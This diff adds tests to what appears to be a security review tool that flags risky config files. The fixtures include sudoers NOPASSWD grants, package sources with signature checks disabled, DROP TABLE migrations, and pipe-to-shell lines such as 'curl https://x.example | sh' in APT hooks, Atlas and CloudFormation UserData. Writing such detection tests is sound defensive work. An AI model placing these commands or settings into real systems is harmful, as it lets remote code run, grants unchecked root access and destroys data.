@@ -142,6 +142,26 @@ describe('row 16: what a file is called, and how it is written', () => {
   });
 });
 
+describe('row 16: settings that hold no command', () => {
+  const liquibase = (text: string): string => `<databaseChangeLog xmlns="x"><changeSet id="1" author="a">\n${text}\n</changeSet></databaseChangeLog>\n`;
+  it.each<[rule: string, path: string, text: string]>([
+    ['shell/accounts-review', 'etc/sudoers.d/deploy', 'deploy ALL=(ALL) NOPASSWD: ALL\n'], ['code/dependency-source-review', 'files/x.list', 'deb [trusted=yes] http://x.example/ ./\n'], ['code/dependency-source-review', 'files/x.sources', 'Types: deb\nURIs: http://x.example/\nTrusted: yes\n'], ['code/dependency-source-review', 'files/x.repo', '[x]\nbaseurl=http://x.example\ngpgcheck=0\n'],
+    ['code/build-code-review', 'files/apt.conf.d/99x', 'APT::Update::Pre-Invoke {"curl https://x.example | sh";};\n'], ['code/dependency-source-review', 'ci/maven-settings.xml', '<settings>\n<mirrors><mirror>\n<url>http://x.example</url>\n</mirror></mirrors></settings>\n'], ['code/dependency-source-review', 'go.env', 'GOPROXY=http://x.example\n'], ['code/build-code-review', 'go.env', 'GOFLAGS=-toolexec=./x\n'],
+    ['code/no-weaker-digests', 'gradle/verification-metadata.xml', '<verification-metadata><configuration>\n<verify-metadata>false</verify-metadata></configuration></verification-metadata>\n'], ['code/gate-review', '.idea/watcherTasks.xml', '<project/>\n'], ['code/gate-review', '.run/a.run.xml', '<component/>\n'],
+    ['code/build-code-review', 'sqitch.conf', '[engine "pg"]\n  client = ./x\n'], ['code/build-code-review', 'alembic.ini', '[post_write_hooks]\nx.type = exec\nx.executable = ./x\n'], ['shell/no-pipe-to-shell', 'atlas.hcl', 'data "external" "x" {\n  program = ["sh", "-c", "curl https://x.example | sh"]\n}\n'],
+    ['shell/sql-file-review', 'flyway.conf', 'flyway.initSql=DROP TABLE orders\n'], ['shell/sql-file-review', 'flyway.toml', '[flyway]\ncleanDisabled = false\n'], ['shell/sql-file-review', 'changelog.xml', liquibase('<sql>DROP TABLE orders</sql>')], ['shell/sql-file-review', 'changelog.xml', liquibase('<rollback></rollback><dropTable tableName="orders"/>')], ['code/build-code-review', 'changelog.xml', liquibase('<executeCommand executable="sh"/>')],
+    ['shell/sql-file-review', 'x/changelog.yaml', 'databaseChangeLog:\n  - changeSet:\n      changes:\n        - dropTable: { tableName: orders }\n'], ['shell/sql-file-review', 'x/changelog.sql', '--liquibase formatted sql\n--changeset a:1\nSELECT 1;\n--rollback SELECT 1;\n--changeset a:2\nDROP TABLE orders;\n'],
+    ['shell/sql-file-review', 'migrations/1.sql', '-- rollback: none\nDROP TABLE orders;\n'], ['shell/sql-file-review', 'migrations/1.sql', '-- +goose Down\nDROP TABLE a;\n-- +goose Up\nDROP TABLE orders;\n'], ['shell/sql-file-review', 'migrations/1.sql', '-- migrate:down\nDROP TABLE orders;\n'],
+  ])('%s stops %s: %j', async (rule, path, text) => {
+    expect(await stoppedBy({ [path]: text })).toContain(rule);
+  });
+  it.each([
+    ['sudoers', '# nobody\n'], ['src/settings.xml', '<settings><a>\n<url>x</url></a></settings>\n'], ['changelog.xml', liquibase('<addColumn tableName="a"><column name="b" type="int"/></addColumn>')], ['.env.example', 'PORT=1\n'], ['files.list', 'a\ndebug x\n'], ['migrations/1.sql', '-- migrate:up\nCREATE TABLE a (id int);\n-- migrate:down\nDROP TABLE a;\n'], ['flyway.conf', 'flyway.locations=filesystem:sql\n'],
+  ])('lets pass %s: %j', async (path, text) => {
+    expect(await stoppedBy({ [path]: text })).toEqual([]);
+  });
+});
+
 describe('row 16: what machines and containers start with', () => {
   it.each<[rule: string, what: string, head: Files, base?: Files]>([
     ['shell/no-pipe-to-shell', 'cfn userdata', { 'cf.yml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          curl -s https://x.example/i | bash\n' }],
